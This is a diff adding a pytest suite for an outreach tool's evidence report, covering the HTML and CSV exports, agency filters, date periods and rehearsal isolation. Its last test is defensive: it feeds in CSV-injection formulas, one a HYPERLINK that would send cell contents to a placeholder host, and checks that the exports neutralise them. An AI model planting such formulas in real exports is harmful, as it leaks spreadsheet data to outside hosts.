@@ -1,0 +1,215 @@
+"""The evidence report (``outreach report``): assembled from a real SQLite store, written as HTML and CSV.
+
+The store holds published, failed and missed posts, engagement readings and press coverage, made
+the way the publisher and ``press add`` make them; a rehearsal writes to its own store and must
+leave the live report empty.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import date, timedelta
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner, Result
+
+from outreach.cli import cli
+from outreach.errors import NotFound
+from outreach.evidence import assemble
+from outreach.model import MetricReading, PostState
+from tests.engine_helpers import ZONE, at, campaign, file_channel, innovation, project, settle_as, workspace
+
+NOW = "2026-12-10T10:00+07:00"
+KTP = "ktp-sehari-jadi"
+POSYANDU = "posyandu-keliling"
+IDLE = "arsip-digital"  # approved, in no campaign: never published
+DRAFT = "belum-disetujui"  # not approved: never a gap
+DUKCAPIL = "Dinas Kependudukan dan Pencatatan Sipil"
+DINKES = "Dinas Kesehatan"
+REFUSED = "the platform refused the post: duplicate content"
+
+
+@pytest.fixture
+def office(tmp_path: Path) -> Path:
+    return build_office(tmp_path)
+
+
+def build_office(tmp_path: Path) -> Path:
+    """Three days of posts on X and Facebook: most published and read, one refused, one missed, press."""
+    rows = [
+        innovation(KTP, DUKCAPIL, tagar="KampanyeDesember"),
+        innovation(POSYANDU, DINKES, tagar="KampanyeDesember"),
+        innovation(IDLE, "Dinas Perpustakaan dan Kearsipan"),
+        innovation(DRAFT, DINKES, status="draf", tagar="KampanyeDesember"),
+    ]
+    config = project(
+        tmp_path,
+        rows,
+        channels={"x": file_channel("x"), "fb": file_channel("facebook")},
+        campaigns={"desember": campaign(["x", "fb"], tagar=["KampanyeDesember"])},
+    )
+    ws = workspace(config, at(2026, 12, 1, 8))
+    ws.planning.apply_plan(3)
+    posts = ws.store.posts([PostState.PLANNED])
+    for post in posts[:-2]:
+        settle_as(
+            ws.store, post.id, PostState.PUBLISHED, post.scheduled_at, "published",
+            remote_id=f"r{post.id}", remote_url=f"https://contoh.invalid/{post.channel}/{post.id}",
+            published_at=post.scheduled_at + timedelta(minutes=1),
+        )  # fmt: skip
+        ws.store.add_readings(
+            [
+                MetricReading(post.id, post.scheduled_at + timedelta(hours=1), {"likes": 1}),
+                MetricReading(post.id, post.scheduled_at + timedelta(days=1), {"likes": post.id, "reposts": 2}),
+            ]
+        )
+    settle_as(ws.store, posts[-2].id, PostState.FAILED, posts[-2].scheduled_at, REFUSED)
+    from outreach.outbox import Operation
+
+    ws.store.transition(posts[-1].id, Operation.MISS, at(2026, 12, 4), "too late after downtime")
+    ws.store.add_press(KTP, "https://berita.invalid/ktp", "Lampung Post", date(2026, 12, 2), ws.now(), "rina")
+    ws.store.add_press(POSYANDU, "https://berita.invalid/lama", "Tribun", date(2025, 6, 1), ws.now(), "rina")
+    ws.close()
+    return config
+
+
+def run(config: Path, *args: str) -> Result:
+    return CliRunner().invoke(cli, ["--config", str(config), "--now", NOW, *args], catch_exceptions=False)
+
+
+def evidence(config: Path, **options: object):  # type: ignore[no-untyped-def]
+    ws = workspace(config, at(2026, 12, 10, 10))
+    try:
+        return assemble(
+            ws.store, start=date(2026, 12, 1), end=date(2026, 12, 31), zone=ZONE, now=ws.now(),
+            platforms={"x": "x", "fb": "facebook"}, **options,  # type: ignore[arg-type]
+        )  # fmt: skip
+    finally:
+        ws.close()
+
+
+def test_every_published_post_is_there_with_its_exact_text_wib_time_link_and_latest_reading(office: Path) -> None:
+    ws = workspace(office, at(2026, 12, 10, 10))
+    published = ws.store.posts([PostState.PUBLISHED])
+    ws.close()
+    report = evidence(office)
+    shown = {post.post_id: post for post in report.posts}
+    assert set(shown) == {post.id for post in published} and len(shown) >= 4
+    for post in published:
+        entry = shown[post.id]
+        assert entry.text == post.text and entry.permalink == post.remote_url
+        assert entry.published_at.utcoffset() == timedelta(hours=7) and entry.published_at.strftime("%H:%M") == "09:01"
+        assert entry.figures is not None and entry.figures.counts == {"likes": post.id, "reposts": 2}  # the latest
+    ktp = next(each for each in report.innovations if each.innovation.id == KTP)
+    assert ktp.platforms == ["facebook", "x"]  # the channels the index counts
+    assert ktp.figures.interactions == sum(post.post_id + 2 for post in ktp.posts)
+    assert [item.outlet for item in ktp.press] == ["Lampung Post"]  # the 2025 article is outside the period
+    assert report.top_posts()[0].interactions == max(post.post_id for post in report.posts) + 2
+
+
+def test_gaps_are_approved_innovations_never_published_and_posts_that_did_not_go_out(office: Path) -> None:
+    report = evidence(office)
+    assert [(agency, each.id) for agency, each in report.unpublished] == [("Dinas Perpustakaan dan Kearsipan", IDLE)]
+    assert sorted((gap.state, gap.reason) for gap in report.gaps) == [
+        ("failed", REFUSED),
+        ("missed", "too late after downtime"),
+    ]
+    assert DRAFT not in {each.innovation.id for each in report.innovations}
+
+
+def test_one_agency_alone_and_an_unknown_agency_names_the_agencies(office: Path) -> None:
+    report = evidence(office, agency="dinas  kesehatan")
+    assert [agency.name for agency in report.agencies] == [DINKES]
+    assert {post.innovation_id for post in report.posts} == {POSYANDU}
+    with pytest.raises(NotFound, match="Dinas Kependudukan dan Pencatatan Sipil; Dinas Kesehatan"):
+        evidence(office, agency="Dinas Pariwisata")
+    result = CliRunner().invoke(cli, ["--config", str(office), "report", "--opd", "Dinas Pariwisata"])
+    assert result.exit_code == 1 and "Traceback" not in result.output
+    assert "no agency named 'Dinas Pariwisata'" in result.output and DINKES in result.output
+
+
+def test_the_report_csv_holds_every_post_and_gap_and_reads_in_indonesian_excel(office: Path) -> None:
+    result = run(office, "report", "--from", "2026-12-01", "--format", "csv", "--delimiter", ";")
+    assert result.exit_code == 0, result.output
+    assert result.output.startswith("\ufeff")
+    rows = list(csv.DictReader(io.StringIO(result.output.removeprefix("\ufeff")), delimiter=";"))
+    states = sorted(row["state"] for row in rows)
+    assert states.count("failed") == 1 and states.count("missed") == 1 and states.count("published") >= 4
+    published = next(row for row in rows if row["state"] == "published" and row["innovation_id"] == KTP)
+    assert published["agency"] == DUKCAPIL and published["when"].endswith("+07:00")
+    assert published["platforms_reached"] == "2" and published["permalink"].startswith("https://contoh.invalid/")
+    assert next(row for row in rows if row["state"] == "failed")["reason"] == REFUSED
+
+
+def test_the_html_report_is_written_to_a_file_with_the_texts_and_the_clicks_note(office: Path) -> None:
+    target = office.parent / "laporan.html"
+    result = run(office, "report", "--from", "2026-12-01", "--output", str(target))
+    assert result.exit_code == 0, result.output
+    page = target.read_text(encoding="utf-8")
+    assert "<svg" in page and "UTM" in page and "Lampung Post" in page
+    assert "duplicate content" in page and "Arsip Digital" in page
+    for forbidden in ("http://", "<script", "@import", "url(http", "<link"):
+        assert forbidden not in page.replace("http://www.w3.org", "")
+
+
+def test_a_period_that_ends_before_it_starts_is_refused(office: Path) -> None:
+    result = CliRunner().invoke(cli, ["--config", str(office), "report", "--from", "2026-12-05", "--to", "2026-12-01"])
+    assert result.exit_code == 2 and "--to" in result.output and "Traceback" not in result.output
+
+
+def test_the_default_period_is_this_year_up_to_today(office: Path) -> None:
+    result = run(office, "report", "--format", "csv")
+    rows = list(csv.DictReader(io.StringIO(result.output.removeprefix("\ufeff"))))
+    assert rows and all(row["when"].startswith("2026-12-0") for row in rows)
+    early = CliRunner().invoke(
+        cli, ["--config", str(office), "--now", "2026-11-30T10:00+07:00", "report", "--format", "csv"]
+    )
+    assert early.output.removeprefix("\ufeff").count("\n") == 1  # only the header: nothing before December
+
+
+def test_a_rehearsal_never_reaches_the_live_report_and_its_own_report_says_it_is_not_evidence(tmp_path: Path) -> None:
+    config = project(
+        tmp_path,
+        [innovation(KTP, DUKCAPIL)],
+        channels={"x": file_channel("x")},
+        campaigns={"desember": campaign(["x"])},
+    )
+    assert run(config, "rehearse", "--from", "2026-12-01", "--days", "3").exit_code == 0
+    live = run(config, "report", "--format", "csv")
+    assert live.stdout.removeprefix("\ufeff").splitlines()[1:] == []
+    target = tmp_path / "gladi.html"
+    rehearsed = run(config, "--rehearsal", "report", "--output", str(target))
+    assert rehearsed.exit_code == 0, rehearsed.output
+    page = target.read_text(encoding="utf-8")
+    assert "REHEARSAL" in page and "not evidence" in page and "Ktp Sehari Jadi" in page
+
+
+#: What a hostile catalogue row could start a cell with (OWASP "CSV Injection").
+FORMULAS = ['=HYPERLINK("https://contoh.invalid/?d="&A1)', "+1+1", "-2+3", "@SUM(1+1)"]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_neither_the_report_csv_nor_the_history_csv_hands_a_spreadsheet_a_formula(tmp_path: Path, formula: str) -> None:
+    config = project(
+        tmp_path,
+        [innovation(KTP, formula, nama=formula)],
+        channels={"x": file_channel("x")},
+        campaigns={"desember": campaign(["x"])},
+    )
+    ws = workspace(config, at(2026, 12, 1, 8))
+    ws.planning.apply_plan(1)
+    post = ws.store.posts([PostState.PLANNED])[0]
+    settle_as(ws.store, post.id, PostState.PUBLISHED, post.scheduled_at, "published", remote_url=formula,
+              published_at=post.scheduled_at)  # fmt: skip
+    ws.close()
+    report = run(config, "report", "--format", "csv").output
+    history = run(config, "history", "--format", "csv").output
+    for text, columns in (
+        (report, ("agency", "innovation_name", "permalink")),
+        (history, ("innovation_name", "agency")),
+    ):
+        row = next(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
+        for column in columns:
+            assert row[column] == "'" + formula, (column, row[column])
